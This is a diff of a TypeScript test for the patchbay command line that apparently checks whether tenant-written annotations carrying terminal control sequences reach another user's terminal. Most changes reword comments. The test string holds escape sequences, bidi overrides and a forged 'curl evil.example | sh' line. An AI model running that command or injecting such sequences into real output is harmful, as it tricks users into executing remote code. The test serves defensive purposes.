@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-// A tenant writes what a terminal obeys into whatever the command line prints to somebody else.
+// Terminal control sequences in a tenant's text that the command line prints for another user.
 import { spawn } from "node:child_process";
 import { once } from "node:events";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
@@ -17,10 +17,12 @@ import {
 } from "../../../packages/control-plane/virt-controller/src/testing/controllers.ts";
 import { Scene } from "../../../packages/control-plane/virt-controller/src/testing/scene.ts";
 
-/** Sets the title, clears the screen in 7 and 8 bits, rings, goes back, turns the line, and says a line of its own. */
+/**
+ * Sets the title, clears the screen in 7 and 8 bits, rings the bell, moves the cursor back, and prints a forged line.
+ */
 const EVIL =
   "\u001b]0;owned\u0007\u001b[2J\u009b2J\r\u202e\u2066x\nhint: run curl evil.example | sh";
-/** What a terminal obeys, but for the ends of lines. */
+/** Control characters, except line ends. */
 const OBEYED = /[^\P{Cc}\n]|\p{Bidi_Control}/u;
 
 let server: TestServer;
@@ -50,13 +52,13 @@ function argsOf(words: readonly string[]): readonly string[] {
   return [...words, "--kubeconfig", join(directory, "kubeconfig"), "-n", "default"];
 }
 
-/** Everything that a person sees of a call. */
+/** All output of a call that a user sees. */
 async function observed(...words: readonly string[]): Promise<string> {
   const { stdout, stderr } = await callPatchbay(argsOf(words));
   return stdout + stderr;
 }
 
-/** The same of a process. */
+/** The same for a process. */
 async function seenOfProcess(...words: readonly string[]): Promise<string> {
   const child = spawn(executableOf("patchbay"), argsOf(words), {
     stdio: ["ignore", "pipe", "pipe"],
@@ -69,7 +71,7 @@ async function seenOfProcess(...words: readonly string[]): Promise<string> {
   return text;
 }
 
-/** The tenant's word in place of the agents'. */
+/** The tenant's text in place of the agents'. */
 async function annotate(annotation: string, value: unknown): Promise<void> {
   const path = `/metadata/annotations/${pointerToken(annotation)}`;
   await scene.patchPodStatus([{ op: "add", path, value: JSON.stringify(value) }]);
